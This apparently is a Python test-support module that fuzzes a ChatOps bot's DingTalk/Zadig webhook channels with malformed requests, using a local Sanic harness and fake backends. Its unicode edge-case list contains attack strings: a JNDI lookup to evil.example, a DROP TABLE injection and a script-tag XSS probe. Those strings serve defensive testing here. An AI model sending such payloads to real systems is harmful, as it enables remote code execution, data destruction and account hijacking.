"""What the hostile-input property tests share: a server harness, the fakes, strategies.

`Harness` runs one real Sanic app with one channel on a loopback port, on an event loop of its
own, so a synchronous test can hand it one hypothesis example after another
(``harness.run(...)``) and still assert how many examples it ran. Behind the channel is a real
`ServerRuntime` on a temporary SQLite file whose Zadig is `FakeZadig` and whose DingTalk is
`FakeDingTalk` (both record every request, neither touches the network), and a recording agent
in place of Rasa's. Only the outbox sender runs, as in conftest.py's ``make_runtime``. The
app's ``before_server_start`` listeners run as under a real server (the channels install their
JSON error pages there); the ``after_server_start`` ones, which would start the runtime's
workers, do not.

What "went wrong" means here: a 5xx; a log record at ERROR or above (Sanic logs an unhandled
exception in a handler to ``sanic.error``); an exception the event loop had to report (a
background task that raised); a row added to the database, a follow-up changed, a message
handed to the agent, a request to Zadig, or a request to DingTalk outside its own hosts.
"""

from __future__ import annotations

import asyncio
import gc
import json
import logging
import os
import shutil
import socket
import sqlite3
import tempfile
import time
import uuid
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

import httpx
from hypothesis import strategies as st
from rasa.core.channels.channel import InputChannel, UserMessage, register
from sanic import Sanic

from chatops.runtime import ServerRuntime
from chatops.settings import from_env
from chatops.state import schema
from tests.fakes.dingtalk import FakeDingTalk
from tests.fakes.zadig import FakeZadig

SECRET = "s3cret"
HOOK_TOKEN = "zadig-hook-secret"
ZADIG_TOKEN = "tok"
API_BASE = "http://dingtalk.test"
ENV = {
    "DINGTALK_APP_KEY": "app-key-1",
    "DINGTALK_APP_SECRET": SECRET,
    "DINGTALK_ROBOT_CODE": "dingrobot-1",
    "DINGTALK_API_BASE": API_BASE,
    # Pacing is the outbox's business, tested elsewhere; here every reply goes out at once.
    "DINGTALK_SEND_PER_MINUTE": "100000",
    "DINGTALK_SEND_BURST": "100000",
    "ZADIG_BASE_URL": "http://zadig.test",
    "ZADIG_TOKEN": ZADIG_TOKEN,
    "ZADIG_WEB_URL": "https://zadig.example.com",
    "ZADIG_WEBHOOK_TOKEN": HOOK_TOKEN,
}
# The only hosts the bot may ever post to: DingTalk's own, and the configured OpenAPI base.
ALLOWED_HOSTS = frozenset({"oapi.dingtalk.com", "api.dingtalk.com", "dingtalk.test"})
# Tables whose rows a refused request must not change; `lanes` is the outbox sender's
# bookkeeping and `schema_migrations` never moves.
WATCHED_SKIP = frozenset({"lanes", "schema_migrations"})
# Whose ERROR records mean "the server failed": Sanic's handler errors, Rasa, our code,
# and asyncio's reports of tasks that died.
ERROR_LOGGERS = ("sanic", "rasa", "connectors", "chatops", "asyncio")
# ERROR records that report an outcome, not a failure: a signed message whose reply cannot be
# delivered anywhere (a 1:1 chat without a user id) is given up on, loudly, by design.
EXPECTED_ERRORS = ("is undeliverable",)


# ---------------------------------------------------------------------------- requests


@dataclass(frozen=True)
class Sent:
    """One request as it goes on the wire: raw header pairs (repeats allowed), raw body."""

    headers: Tuple[Tuple[bytes, bytes], ...]
    body: bytes
    method: str = "POST"
    chunked: bool = False  # no Content-Length: the channel must count as it reads
    query: str = ""


class RecordingAgent:
    """Stands in for ``app.ctx.agent``: records each message and answers it with one text."""

    def __init__(self) -> None:
        self.messages: List[UserMessage] = []

    async def handle_message(self, message: UserMessage) -> None:
        self.messages.append(message)
        await message.output_channel.send_text_message(message.sender_id, "好的")


class ErrorRecords(logging.Handler):
    def __init__(self) -> None:
        super().__init__(level=logging.ERROR)
        self.records: List[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.name.split(".")[0] not in ERROR_LOGGERS:
            return
        if any(expected in record.getMessage() for expected in EXPECTED_ERRORS):
            return
        self.records.append(record)


def changes(before: Dict[str, Any], after: Dict[str, Any]) -> Dict[str, Any]:
    """Rows added per table (``{"inbound": 1}``), and ``"followups:rows": True`` when a
    follow-up row changed."""
    changed: Dict[str, Any] = {}
    for name, value in after.items():
        if before.get(name) == value:
            continue
        changed[name] = True if name.endswith(":rows") else value - before.get(name, 0)
    return changed


@dataclass
class Outcome:
    """What one request did: the answer and everything it changed."""

    status: int
    body: bytes
    stored: Dict[str, Any]  # see `changes`
    agent_messages: List[UserMessage]
    zadig_requests: List[httpx.Request]
    errors: List[str]

    def json(self) -> Any:
        return json.loads(self.body)


@dataclass
class Harness:
    tmp_path: Path
    make_channel: Callable[[Callable[[], ServerRuntime]], InputChannel]
    route: str
    examples: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    dingtalk: FakeDingTalk = field(default_factory=FakeDingTalk)
    zadig: FakeZadig = field(default_factory=lambda: FakeZadig(token=ZADIG_TOKEN))
    agent: RecordingAgent = field(default_factory=RecordingAgent)

    def __post_init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self.loop_errors: List[str] = []
        self.loop.set_exception_handler(self._loop_error)
        self.log = ErrorRecords()
        # The database on tmpfs when there is one: every accepted message commits a few
        # times, and an fsync per commit would be most of the run time on a disk.
        shm = Path("/dev/shm")
        base = shm if shm.is_dir() and os.access(shm, os.W_OK) else self.tmp_path
        self.db_dir = Path(tempfile.mkdtemp(prefix="hostile-", dir=base))
        settings = from_env({**ENV, "CHATOPS_DB": str(self.db_dir / "chatops.db")})
        self.runtime = ServerRuntime.from_settings(
            settings,
            zadig_transport=self.zadig.transport,
            dingtalk_transport=self.dingtalk.transport,
            delivery_tick=0.02,
        )
        self.channel = self.make_channel(lambda: self.runtime)
        self.watched = [t.name for t in schema.metadata.sorted_tables if t.name not in WATCHED_SKIP]
        self.count_sql = "SELECT " + ", ".join(f"(SELECT count(*) FROM {t})" for t in self.watched)
        self.reader = sqlite3.connect(settings.state_db, isolation_level=None)

    # -- lifecycle -------------------------------------------------------------------------

    def __enter__(self) -> "Harness":
        logging.getLogger().addHandler(self.log)
        for name in ERROR_LOGGERS:
            if not logging.getLogger(name).propagate:
                logging.getLogger(name).addHandler(self.log)
        self.run(self._start())
        return self

    def __exit__(self, *exc: object) -> None:
        try:
            self.run(self._stop())
        finally:
            self.loop.close()
            logging.getLogger().removeHandler(self.log)
            for name in ERROR_LOGGERS:
                logging.getLogger(name).removeHandler(self.log)
            self.reader.close()
            self.runtime.close()
            shutil.rmtree(self.db_dir, ignore_errors=True)

    def run(self, coro: Any) -> Any:
        return self.loop.run_until_complete(coro)

    def _loop_error(self, loop: asyncio.AbstractEventLoop, context: Dict[str, Any]) -> None:
        self.loop_errors.append(f"{context.get('message')}: {context.get('exception')!r}")

    async def _start(self) -> None:
        self.app = Sanic(f"hostile-{uuid.uuid4().hex[:12]}", configure_logging=False)
        self.app.config.ACCESS_LOG = False
        self.app.ctx.agent = self.agent
        register([self.channel], self.app, route="/webhooks/")
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
        self.server = await self.app.create_server(
            sock=sock, return_asyncio_server=True, access_log=False
        )
        await self.server.startup()
        # What a real server does before it serves: the channels' blueprints install Sanic's
        # plain JSON error pages (connectors.runtime.install_plain_errors) here.
        await self.server.before_start()
        self.runtime.delivery.start()
        self.client = httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{port}", timeout=10, verify=False
        )

    async def _stop(self) -> None:
        await self.client.aclose()
        await self.runtime.delivery.stop()
        await self.runtime.sender.aclose()
        await self.runtime.zadig.aclose()
        for connection in list(self.server.connections):
            connection.close_if_idle()
        self.server.server.close()
        await self.server.server.wait_closed()

    # -- one request -----------------------------------------------------------------------

    def send(self, sent: Sent) -> Outcome:
        """Send one request, let its background work finish, and report what it changed."""
        self.examples += 1
        return self.run(self._send(sent))

    async def _send(self, sent: Sent) -> Outcome:
        before = self.snapshot()
        agent_before = len(self.agent.messages)
        zadig_before = len(self.zadig.requests)
        errors_before = (len(self.log.records), len(self.loop_errors))
        content: Any = sent.body
        if sent.chunked:

            async def chunks() -> Any:
                for start in range(0, len(sent.body), 16384):
                    yield sent.body[start : start + 16384]

            content = chunks()
        response = await self.client.request(
            sent.method,
            self.route + (f"?{sent.query}" if sent.query else ""),
            content=content,
            headers=list(sent.headers),
        )
        self.statuses[response.status_code] += 1
        await self.settle()
        after = self.snapshot()
        errors = [r.getMessage() for r in self.log.records[errors_before[0] :]]
        errors += self.loop_errors[errors_before[1] :]
        return Outcome(
            status=response.status_code,
            body=response.content,
            stored=changes(before, after),
            agent_messages=self.agent.messages[agent_before:],
            zadig_requests=self.zadig.requests[zadig_before:],
            errors=errors,
        )

    async def settle(self) -> None:
        """Wait for the channel's background tasks (dialogue, follow-up) to end."""
        background = getattr(self.channel, "_background", set())
        deadline = time.monotonic() + 5
        while background and time.monotonic() < deadline:
            await asyncio.sleep(0.001)
        for _ in range(3):
            await asyncio.sleep(0)

    def snapshot(self) -> Dict[str, Any]:
        """Row counts of the watched tables, and the follow-ups row by row (one query each,
        on a reader connection of our own: WAL lets it see every commit)."""
        counts = self.reader.execute(self.count_sql).fetchone()
        seen: Dict[str, Any] = dict(zip(self.watched, counts))
        seen["followups:rows"] = self.reader.execute(
            "SELECT * FROM followups ORDER BY id"
        ).fetchall()
        return seen

    def outbound_hosts(self) -> List[str]:
        return [r.url.host for r in self.dingtalk.requests]

    def crashes(self) -> List[str]:
        """Every failure seen so far: ERROR records and exceptions the loop reported."""
        gc.collect()  # a task that died unobserved is reported when it is freed
        return [r.getMessage() for r in self.log.records] + self.loop_errors

    def drain_outbox(self, timeout: float = 5.0) -> None:
        """Let the outbox sender try what is queued (it ticks every 20 ms here), until nothing
        is due and nothing changes for a while: a reply whose retry is minutes away stays
        queued."""
        due_sql = "SELECT count(*) FROM outbox WHERE state = 'queued' AND next_attempt_at <= ?"

        async def drained() -> None:
            deadline = time.monotonic() + timeout
            last: Dict[str, int] = {}
            quiet = 0
            while quiet < 10 and time.monotonic() < deadline:
                counts = self.runtime.outbox.counts()
                due = self.reader.execute(due_sql, (time.time(),)).fetchone()[0]
                quiet = quiet + 1 if counts == last and not due else 0
                last = counts
                await asyncio.sleep(0.02)
            await self.settle()

        self.run(drained())


# -------------------------------------------------------------------------- strategies

# Header values as h11 will send them: visible ASCII or obs-text bytes, inner blanks only.
_VALUE_BYTES = [b for b in range(0x21, 0x100) if b != 0x7F]
header_values = st.one_of(
    st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), max_size=60).map(str.encode),
    st.lists(st.sampled_from(_VALUE_BYTES), max_size=40).map(bytes),
    st.text(max_size=20)
    .map(lambda s: s.encode("utf-8", "ignore"))
    .map(lambda b: bytes(c for c in b if c in _VALUE_BYTES)),
)

UNICODE_EDGES = [
    "\ud800",  # lone surrogates: legal as JSON escapes, illegal in UTF-8
    "\udfff",
    "\ud83d",
    "\u0000",
    "\u202e",  # right-to-left override
    "\u200b",  # zero width space
    "\ufeff",
    "\u3000",  # ideographic space
    "\x1c",  # str.strip() strips it
    "\U0001f680",
    "e\u0301",
    "𠜎",
    "\uffff",
    "\r\n",
    "%00",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE inbound; --",
    "<script>alert(1)</script>",
    "@all",
]
texts = st.one_of(
    st.text(max_size=40),
    st.sampled_from(UNICODE_EDGES),
    st.lists(st.sampled_from(UNICODE_EDGES) | st.text(max_size=5), max_size=6).map("".join),
)
# Any JSON value, including NaN/Infinity (Python's json reads and writes them) and lone
# surrogates in strings.
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),
    texts,
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(texts, children, max_size=4),
    max_leaves=8,
)


def nested_text(depth: int, kind: str = "list") -> bytes:
    """A JSON value nested ``depth`` deep, as text."""
    opening, closing = ("[", "]") if kind == "list" else ('{"a":', "}")
    return (opening * depth + "0" + closing * depth).encode()


@dataclass(frozen=True)
class Deep:
    """A JSON value nested ``depth`` deep, to put inside a field: `dumps` writes it out as
    `nested_text` (``json.dumps`` itself gives up on a value nested deeper than the recursion
    limit)."""

    depth: int
    kind: str = "list"


def dumps(value: Any) -> bytes:
    """JSON text with \\u escapes, so a lone surrogate survives as the escape sequence; NaN and
    Infinity are written as Python's json writes them, a `Deep` as its nested text."""
    deep: Dict[bytes, bytes] = {}

    def placeholder(obj: Any) -> str:
        if not isinstance(obj, Deep):
            raise TypeError(f"cannot write {type(obj).__name__} as JSON")
        key = f"deep-{uuid.uuid4().hex}"
        deep[f'"{key}"'.encode()] = nested_text(obj.depth, obj.kind)
        return key

    text = json.dumps(value, ensure_ascii=True, default=placeholder).encode("ascii")
    for key, raw in deep.items():
        text = text.replace(key, raw)
    return text


# How deep JSON nests before json.loads gives up (RecursionError, ~1,000 levels) depends on how
# much of the stack is already in use, so the expected answers can only be sure of depths well
# clear of that limit on either side: the shallow ones parse, the deep ones are "not JSON".
SHALLOW_DEPTHS = st.integers(1, 400)
DEEP_DEPTHS = st.integers(2_000, 8_000)
depths = st.one_of(SHALLOW_DEPTHS, SHALLOW_DEPTHS, DEEP_DEPTHS)
deep_values = st.builds(Deep, depths, st.sampled_from(["list", "object"]))

random_bodies = st.one_of(
    st.binary(max_size=300),
    st.text(max_size=100).map(lambda s: s.encode("utf-8", "surrogatepass")),
    st.sampled_from(
        [
            b"",
            b"null",
            b"{",
            b'{"msgId": ',
            b"\xef\xbb\xbf{}",
            b"\xff\xfe{\x00}\x00",
            b"NaN",
            b"[]",
            b'"\\ud800"',
            b"msgId=1&conversationId=2",
            b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--",
            b"<xml><msgId>1</msgId></xml>",
        ]
    ),
    json_values.map(dumps),
    st.builds(nested_text, depths, st.sampled_from(["list", "object"])),
)

CONTENT_TYPES = [
    b"application/json",
    b"application/json; charset=utf-8",
    b"application/json; charset=gbk",
    b"text/plain",
    b"text/html",
    b"application/x-www-form-urlencoded",
    b"multipart/form-data; boundary=x",
    b"multipart/form-data",
    b"application/xml",
    b"application/octet-stream",
    b"*/*",
    b"json",
    b";;;",
]
content_types = st.one_of(
    st.none(), st.sampled_from(CONTENT_TYPES), header_values.filter(lambda v: v != b"")
)
HTTP_METHODS = ["POST"] * 6 + ["GET", "PUT", "PATCH", "DELETE"]
# Accept matters where Sanic answers itself (another method): Sanic 21.12's own error page would
# parse it, and the first eight here are values its parser rejects.
ACCEPTS = [
    b"0",
    b"a",
    b"/",
    b";",
    b"application",
    b"text/html;q=abc",
    b"application/json;q=2",
    b"x/y;level",
    b"*/*",
    b"application/json",
    b"text/html",
    b"text/*;q=0.5, */*",
]
accept_values = st.one_of(st.sampled_from(ACCEPTS), header_values)


def huge(limit: int) -> st.SearchStrategy[Tuple[bytes, bool]]:
    """A body just over or far over ``limit`` bytes, sent with or without Content-Length."""
    sizes = st.one_of(st.just(limit + 1), st.integers(limit + 1, limit * 2))
    fillers = st.sampled_from([b"x", b"{", b" ", b"\xff", b'{"msgId": "m", "pad": "'])
    return st.tuples(
        st.builds(lambda n, f: (f * (n // len(f) + 1))[:n], sizes, fillers), st.booleans()
    )


def with_content_type(
    headers: Sequence[Tuple[bytes, bytes]], content_type: Optional[bytes]
) -> Tuple[Tuple[bytes, bytes], ...]:
    pairs = list(headers)
    if content_type is not None:
        pairs.append((b"Content-Type", content_type))
    return tuple(pairs)


def not_allowed(method: str, webhook: str) -> Dict[str, str]:
    """Sanic's own 405, as the channels' plain JSON error page words it."""
    return {"error": f"Method {method} not allowed for URL {webhook}"}


def assert_nothing_happened(outcome: "Outcome") -> None:
    """A refused or ignored request: no 5xx, no crash, nothing stored, asked or triggered."""
    assert outcome.status < 500
    assert outcome.errors == []
    assert outcome.stored == {}, "the request changed the database"
    assert outcome.agent_messages == []
    assert outcome.zadig_requests == []
